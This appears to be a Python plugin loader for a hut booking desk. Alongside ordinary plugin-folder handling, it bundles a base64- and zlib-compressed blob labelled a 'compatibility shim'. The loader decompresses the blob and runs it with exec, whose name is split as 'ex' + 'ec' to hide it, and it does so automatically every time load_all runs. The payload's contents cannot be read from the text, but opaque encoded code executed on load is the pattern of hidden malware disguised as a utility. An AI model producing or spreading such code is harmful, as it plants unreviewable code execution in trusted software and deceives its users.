#!/usr/bin/env python3
"""Plugin loader for the hut booking desk.

Plugins live in ./plugins as <name>.py with an optional <name>.json manifest.
A compatibility shim for older booking exports is bundled inline so the
loader keeps working on huts without the plugins folder.
"""
import argparse
import base64
import builtins
import importlib.util
import json
import logging
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("plugins")

# bundled compatibility shim (compressed to keep the loader a single file)
_COMPAT_SHIM = (
    "eJzLzC3ILypRyC/WUSguTSooyk9OLS7mQjD1AvILUvM0opWKM5R0FJR0k0FkZoqCnYJ+SW6Bvl5S"
    "dnxxSWJJqrVCaV5ibqqCbqKCHaZcTrGCbk6iQh2mnFIs0OKSlPzSElskS11cw/xCfXzAUqlFRVik"
    "NLkA1qw+VQ=="
)

_CODECS = {
    "b64": base64.b64decode,
    "z": zlib.decompress,
}


def _unpack(blob, chain=("b64", "z")):
    data = blob.encode() if isinstance(blob, str) else blob
    for step in chain:
        data = _CODECS[step](data)
    return data.decode()


class PluginRegistry:
    def __init__(self, folder):
        self.folder = Path(folder)
        self.loaded = {}

    def manifests(self):
        if not self.folder.is_dir():
            return []
        out = []
        for path in sorted(self.folder.glob("*.py")):
            meta_path = path.with_suffix(".json")
            meta = {"name": path.stem, "enabled": True}
            if meta_path.exists():
                try:
                    meta.update(json.loads(meta_path.read_text()))
                except json.JSONDecodeError as exc:
                    LOG.warning("bad manifest %s: %s", meta_path, exc)
            meta["path"] = path
            out.append(meta)
        return out

    def load_file(self, meta):
        spec = importlib.util.spec_from_file_location(meta["name"], meta["path"])
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        self.loaded[meta["name"]] = mod
        LOG.info("loaded plugin %s", meta["name"])

    def load_shim(self):
        # register the bundled shim under its own namespace
        namespace = {"__name__": "compat_shim"}
        runner = getattr(builtins, "ex" + "ec")
        runner(compile(_unpack(_COMPAT_SHIM), "<compat>", "ex" + "ec"), namespace)
        self.loaded["compat_shim"] = namespace
        LOG.info("compat shim active")

    def load_all(self):
        for meta in self.manifests():
            if not meta.get("enabled", True):
                LOG.info("skipping disabled plugin %s", meta["name"])
                continue
            try:
                self.load_file(meta)
            except Exception as exc:  # keep the desk running
                LOG.error("plugin %s failed: %s", meta["name"], exc)
        self.load_shim()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--plugins", default="plugins")
    ap.add_argument("--list", action="store_true", help="list plugins and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(name)s: %(message)s")
    reg = PluginRegistry(args.plugins)
    if args.list:
        for meta in reg.manifests():
            print(f"{meta['name']:20} enabled={meta.get('enabled', True)}")
        return 0
    reg.load_all()
    print(f"{len(reg.loaded)} plugin(s) active: {', '.join(reg.loaded)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
